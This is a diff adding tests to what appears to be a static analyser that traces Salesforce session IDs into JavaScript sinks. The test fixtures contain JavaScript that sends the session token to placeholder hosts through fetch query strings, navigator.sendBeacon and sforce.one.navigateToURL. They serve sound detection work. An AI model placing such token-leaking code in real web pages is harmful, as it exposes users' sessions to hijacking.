@@ -152,6 +152,23 @@ def test_session_passed_to_a_same_file_function_reaches_its_sink() -> None:
     assert sink(lower(code), "navigator.sendBeacon").sources == ("staticresources/app.js:1:11",)
 
 
+def test_session_passed_to_an_object_method_reaches_its_sink() -> None:
+    code = SID + (
+        "var api = {\n"
+        "  send: function (t) { fetch('https://x.example.com/?t=' + t); },\n"
+        "  post(t) { navigator.sendBeacon('https://b.example.com', t); }\n"
+        "};\n"
+        "api.send(sid); api.post(sid);\n"
+    )
+    ir = lower(code)
+    assert sink(ir, "fetch").in_query and sink(ir, "navigator.sendBeacon").header_or_body
+
+
+def test_lightning_navigation_with_session_in_url() -> None:
+    use = sink(lower(SID + "sforce.one.navigateToURL('https://x.example.com/?s=' + sid);"), "sforce.one.navigateToURL")
+    assert use.in_query
+
+
 def test_session_returned_by_a_function_reaches_the_caller_sink() -> None:
     code = "function token() { return sforce.connection.sessionId; }\nfetch('https://x.example.com/?t=' + token());"
     assert sink(lower(code), "fetch").in_query
